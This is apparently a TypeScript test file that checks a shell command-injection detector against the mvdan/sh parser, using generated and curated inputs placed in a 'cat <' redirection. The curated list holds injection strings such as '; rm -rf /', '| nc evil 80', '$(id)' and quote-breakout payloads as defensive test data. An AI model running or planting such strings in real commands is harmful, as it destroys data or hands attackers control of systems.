// Differential test: our verdict ("the input stayed a value inside one word") against the
// AST of a real shell parser, mvdan/sh compiled to WASM (the sh-syntax package, bash mode).
//
// sh-syntax's JSON AST gives statements, command spans, comments and redirections, and
// for a redirection target the word's parts with their spans (not their types). So the
// slot sits in a redirection target, `cat <WORD`, which the shell lexes like any other word:
//  - structure: one statement, command `cat`, one `<` redirection whose word runs to the
//    end, no comments; otherwise the input changed the command (or it did not parse);
//  - part types from the parser's boundaries: a part opening with ' or $' is single-quoted,
//    " or $" double-quoted; any other part is a literal iff reparsed alone it is a literal
//    word (`Word.Lit` is set only when every part is a literal);
//  - a double-quoted part is all-literal iff its content, reparsed as a here-document body
//    (same expansion rules), is a literal word;
//  - the input is safe iff every part it touches is a literal, or a quoted string with
//    literal content that the input stays inside, or of which the app wrote only delimiters.
// mvdan/sh treats globs, braces, `~` and characters like `!` or `#` inside a word as
// literal text; we flag them by policy (cmdi.glob, cmdi.metacharacter): those cases are
// counted separately, not as disagreements.

import t from 'tap';
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { getProcessor, type File } from 'sh-syntax';
import { inspectShellSpan, type ShellRule } from '../../../src/detect/shell/detector';

// sh-syntax's own `parse` recompiles the WASM module on every call; compile it once.
// (The project's TypeScript lib settings do not declare WebAssembly: a minimal view.)
interface WasmApi {
  Module: new (bytes: Uint8Array) => object;
  instantiate(module: object, imports: object): Promise<object>;
}
const WA = (globalThis as unknown as { WebAssembly: WasmApi }).WebAssembly;
const wasm = new WA.Module(readFileSync(require.resolve('sh-syntax/main.wasm')));
const processor = getProcessor(((imports: object) => WA.instantiate(wasm, imports)) as unknown as Parameters<typeof getProcessor>[0]);
const parse = (text: string): Promise<File> => processor(text);

type Verdict = 'safe' | 'unsafe';
interface Span { Pos: { Offset: number }; End: { Offset: number } }

const POLICY_RULES: ReadonlySet<ShellRule> = new Set<ShellRule>(['cmdi.glob', 'cmdi.metacharacter']);

const TEMPLATES = [
  { name: 'unquoted', pre: 'cat <x', post: 'y' },
  { name: 'single-quoted', pre: "cat <'x", post: "y'" },
  { name: 'double-quoted', pre: 'cat <"x', post: 'y"' },
] as const;

const FRAGMENTS = [
  'a', 'Z', '9', '-', '.', '/', ',', ':', '=', '@', '%', '+', '_', ' ', '\t', '\n', ';', '&', '|', '&&', '||',
  '$', '$(id)', '`id`', '${IFS}', '$HOME', '$1', '$?', '$((1+1))', "'", '"', '\\', '{a,b}', '{', '}', '*', '?',
  '[', ']', '~', '#', '<', '>', '>>', '2>&1', '(', ')', '<(id)', '!', "$'x'", '$"x"', '^', "'\\''", '\\"', '\\$',
];

const CURATED = [
  '; rm -rf /', '&& touch /tmp/x', '| nc evil 80', '$(id)', '`id`', '${IFS}', '$HOME', '> /tmp/x', 'a\nid',
  "x'; id; echo '", 'x"; id; echo "', 'x #', '{a,b}', '*', 'report-2024.pdf', 'hello world', 'a.b@example.com',
  'a.b', "it's", 'x\\', "'a'", '"a"', "x'y'z", 'x"y"z', 'a\\;b', "$'a\\nb'", '$"a"', '\\$(id)', '"$(id)"', "'$(id)'",
];

async function oracle(script: string, s: number, e: number): Promise<Verdict> {
  let file;
  try {
    file = await parse(script);
  } catch {
    return 'unsafe'; // does not parse: the shell would not run what the app meant
  }
  if (file.Stmts.length !== 1 || ((file as unknown as { Last?: unknown[] }).Last ?? []).length > 0) return 'unsafe';
  const st = file.Stmts[0];
  if (st.Comments.length > 0 || st.Negated || st.Background || st.Coprocess) return 'unsafe';
  if (st.Cmd === null || st.Cmd.Pos.Offset !== 0 || st.Cmd.End.Offset !== 3) return 'unsafe';
  if (st.Redirs.length !== 1) return 'unsafe';
  const r = st.Redirs[0];
  if (r.Op !== '<' || r.N !== null || r.Hdoc !== null) return 'unsafe';
  if (r.Word.Pos.Offset !== 5 || r.Word.End.Offset !== script.length) return 'unsafe';
  for (const p of r.Word.Parts as Span[]) {
    const ps = p.Pos.Offset;
    const pe = p.End.Offset;
    if (pe <= s || ps >= e) continue;
    const kind = await partKind(script.slice(ps, pe));
    if (kind === 'expansion') return 'unsafe';
    if (kind === 'literal') continue;
    const open = script.charCodeAt(ps) === 36 /* $ */ ? 2 : 1;
    const cs = ps + open;
    const ce = pe - 1;
    const appLeft = ps < s;
    const appRight = pe > e;
    if (appLeft && appRight && (s < cs || e > ce)) return 'unsafe';
    if (appLeft && !appRight && s > cs) return 'unsafe';
    if (!appLeft && appRight && e < ce) return 'unsafe';
    if (kind === 'double' && ce > cs && !(await literalHeredoc(script.slice(cs, ce)))) return 'unsafe';
  }
  return 'safe';
}

async function partKind(text: string): Promise<'literal' | 'single' | 'double' | 'expansion'> {
  if (text.startsWith("'") || text.startsWith("$'")) return 'single';
  if (text.startsWith('"') || text.startsWith('$"')) return 'double';
  // Only expansions ($ ` <( >( ) and extended globs (@( !( ...) are not literals; ask the
  // parser only about parts that could be one (each parse costs milliseconds).
  if (!/^[$`<>?*+@!]/.test(text) && !text.includes('(')) return 'literal';
  try {
    const f = await parse(`cat <${text}`);
    return f.Stmts.length === 1 && f.Stmts[0].Redirs.length === 1 && f.Stmts[0].Redirs[0].Word.Lit !== '' ? 'literal' : 'expansion';
  } catch {
    return 'expansion';
  }
}

async function literalHeredoc(content: string): Promise<boolean> {
  const f = await parse(`cat <<RAMPARTEOF\n${content}\nRAMPARTEOF\n`);
  const doc = f.Stmts[0].Redirs[0].Hdoc;
  return doc !== null && doc.Lit !== '';
}

function ours(script: string, s: number, e: number): { verdict: Verdict; policy: boolean; rule?: ShellRule } {
  const found = inspectShellSpan(script, s, e);
  if (found === undefined) return { verdict: 'safe', policy: false };
  if (POLICY_RULES.has(found.rule)) return { verdict: 'safe', policy: true, rule: found.rule };
  return { verdict: 'unsafe', policy: false, rule: found.rule };
}

// Each parse still instantiates the WASM module (~10 ms, far more on a loaded machine).
t.setTimeout(900_000);

t.test('agreement with mvdan/sh on generated commands', async (t) => {
  const started = Date.now();
  const generated = fc.sample(fc.array(fc.constantFrom(...FRAGMENTS), { minLength: 1, maxLength: 5 }).map((a) => a.join('')), {
    seed: 42,
    numRuns: 260,
  });
  const payloads = [...new Set([...CURATED, ...generated])];
  const stats = { cases: 0, agreeSafe: 0, agreeUnsafe: 0, policyOnly: 0 };
  const perTemplate: Record<string, { cases: number; agree: number }> = {};
  const disagreements: string[] = [];

  for (const tpl of TEMPLATES) {
    perTemplate[tpl.name] = { cases: 0, agree: 0 };
    for (const payload of payloads) {
      const script = tpl.pre + payload + tpl.post;
      const s = tpl.pre.length;
      const e = s + payload.length;
      const theirs = await oracle(script, s, e);
      const mine = ours(script, s, e);
      stats.cases++;
      perTemplate[tpl.name].cases++;
      if (mine.verdict === theirs) {
        perTemplate[tpl.name].agree++;
        if (mine.policy) stats.policyOnly++;
        else if (theirs === 'safe') stats.agreeSafe++;
        else stats.agreeUnsafe++;
      } else {
        disagreements.push(`${tpl.name} ${JSON.stringify(script)}: ours ${mine.verdict} (${mine.rule ?? '-'}), parser ${theirs}`);
      }
    }
  }

  const agree = stats.agreeSafe + stats.agreeUnsafe + stats.policyOnly;
  t.comment(`differential: ${stats.cases} cases, ${agree} agree (${((100 * agree) / stats.cases).toFixed(1)}%):`
    + ` ${stats.agreeSafe} safe, ${stats.agreeUnsafe} unsafe, ${stats.policyOnly} literal for the parser but flagged by our glob/metacharacter policy`);
  for (const [name, x] of Object.entries(perTemplate)) t.comment(`  ${name}: ${x.agree}/${x.cases}`);
  for (const d of disagreements) t.comment(`  disagreement: ${d}`);

  t.comment(`  (${((Date.now() - started) / 1000).toFixed(0)} s)`);
  t.same(disagreements, [], 'no disagreement with the real parser');
  t.ok(stats.agreeSafe > 50 && stats.agreeUnsafe > 200, 'both verdicts well represented');
});
